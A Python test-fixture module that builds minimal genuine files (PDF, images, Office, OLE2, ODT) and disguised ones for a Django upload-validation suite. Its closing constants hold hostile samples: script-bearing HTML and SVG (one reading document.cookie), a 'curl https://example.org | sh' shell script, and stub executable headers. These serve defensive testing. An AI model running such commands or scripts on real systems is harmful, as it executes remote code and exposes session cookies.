"""Tiny real files of each kind, built here byte by byte, for the upload checks to read."""

import io
import struct
import zipfile
import zlib

from django.core.files.uploadedfile import SimpleUploadedFile

_OOXML = "application/vnd.openxmlformats-officedocument"


def uploaded(name: str, content: bytes, content_type: str = "application/octet-stream") -> SimpleUploadedFile:
    """As a browser sends it: the content type it claims is never what decides."""
    return SimpleUploadedFile(name, content, content_type=content_type)


def pdf() -> bytes:
    return (
        b"%PDF-1.4\n1 0 obj <</Type /Catalog /Pages 2 0 R>> endobj\n"
        b"2 0 obj <</Type /Pages /Kids [] /Count 0>> endobj\n"
        b"trailer <</Root 1 0 R>>\n%%EOF\n"
    )


def png() -> bytes:
    """A 1x1 grey pixel."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\x00\x80"))
        + chunk(b"IEND", b"")
    )


def jpeg() -> bytes:
    return b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00\xff\xd9"


def gif() -> bytes:
    """A 1x1 pixel: header, two-colour palette, one image block, trailer."""
    palette = b"\x00\x00\x00\xff\xff\xff"
    image = b",\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00"
    return b"GIF89a\x01\x00\x01\x00\x80\x00\x00" + palette + image + b";"


def webp() -> bytes:
    body = b"WEBPVP8L\x0d\x00\x00\x00/\x00\x00\x00\x10\x07\x10\x11\x11\x88\x88\xfe\x07\x00"
    return b"RIFF" + struct.pack("<I", len(body)) + body


def _zip(entries: list[tuple[str, str | bytes]], *, first_stored: bool = False) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as package:
        for index, (name, data) in enumerate(entries):
            stored = first_stored and index == 0
            package.writestr(name, data, compress_type=zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED)
    return buffer.getvalue()


def _content_types(main_part: str, main_type: str) -> str:
    return (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        f'<Override PartName="/{main_part}" ContentType="{main_type}"/></Types>'
    )


def ooxml(main_part: str, main_type: str) -> bytes:
    return _zip(
        [
            ("[Content_Types].xml", _content_types(main_part, main_type)),
            ("_rels/.rels", '<?xml version="1.0"?><Relationships/>'),
            (main_part, '<?xml version="1.0"?><document/>'),
        ]
    )


def docx() -> bytes:
    return ooxml("word/document.xml", f"{_OOXML}.wordprocessingml.document.main+xml")


def xlsx() -> bytes:
    return ooxml("xl/workbook.xml", f"{_OOXML}.spreadsheetml.sheet.main+xml")


def pptx() -> bytes:
    return ooxml("ppt/presentation.xml", f"{_OOXML}.presentationml.presentation.main+xml")


def docm() -> bytes:
    """A Word document with macros: its own main type, not a .docx."""
    return ooxml("word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml")


def odt() -> bytes:
    return _zip(
        [("mimetype", "application/vnd.oasis.opendocument.text"), ("content.xml", "<office:document/>")],
        first_stored=True,
    )


def plain_zip() -> bytes:
    """A ZIP archive that is no document, though its first entry is named like a Word part."""
    return _zip([("word/document.xml", "<w/>"), ("payload.exe", b"MZ\x90\x00")])


def compound(stream_name: str) -> bytes:
    """An OLE2 compound file (the 97-2003 Office format, also Windows installers' and Outlook's)
    holding one 4 KB stream: header, one FAT sector, one directory sector, eight data sectors."""
    end, free, fat_sector, no_stream = 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFD, 0xFFFFFFFF
    header = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16)
    header += struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + bytes(6)
    header += struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, end, 0, end, 0)
    header += struct.pack("<109I", 0, *[free] * 108)
    fat = [fat_sector, end, *range(3, 10), end] + [free] * 118
    directory = _entry("Root Entry", 5, child=1, start=end, size=0) + _entry(
        stream_name, 2, start=2, size=4096
    )
    directory += (
        bytes(64) + struct.pack("<HBBIII", 0, 0, 0, no_stream, no_stream, no_stream) + bytes(52)
    ) * 2
    return header + struct.pack("<128I", *fat) + directory + b"\x01" * 4096


def _entry(name: str, kind: int, *, start: int, size: int, child: int = 0xFFFFFFFF) -> bytes:
    encoded = (name + "\x00").encode("utf-16-le")
    entry = encoded.ljust(64, b"\x00") + struct.pack("<HBB", len(encoded), kind, 1)
    entry += struct.pack("<III", 0xFFFFFFFF, 0xFFFFFFFF, child) + bytes(16) + struct.pack("<I", 0) + bytes(16)
    return entry + struct.pack("<IQ", start, size)


def doc() -> bytes:
    return compound("WordDocument")


def xls() -> bytes:
    return compound("Workbook")


def installer() -> bytes:
    """An OLE2 file that is no Office document (a Windows installer keeps other streams)."""
    return compound("\x05SummaryInformation")


def text() -> bytes:
    return "Joint letter to the Permanent Missions, 18 December 2014. — Résumé\n".encode()


def csv() -> bytes:
    return b"state,position\nPRK,against\nKOR,for\n"


def markdown() -> bytes:
    return "\ufeff# Briefing note\n\n- Ask the mission to co-sponsor.\n".encode()


HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
HTML_AFTER_WHITESPACE = b"\xef\xbb\xbf \n\t<html><script>fetch('/api/v1/people/')</script></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
XML = b'<?xml version="1.0"?><?xml-stylesheet href="x.xsl"?><doc/>'
SHELL = b"#!/bin/sh\ncurl https://example.org | sh\n"
ELF = b"\x7fELF\x02\x01\x01\x00" + bytes(56)
WINDOWS_EXE = (
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + bytes(44) + b"\x40\x00\x00\x00PE\x00\x00"
)
MACH_O = b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + bytes(24)
GZIP = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03" + bytes(10)
LATIN1_TEXT = "Résumé of the meeting".encode("latin-1")
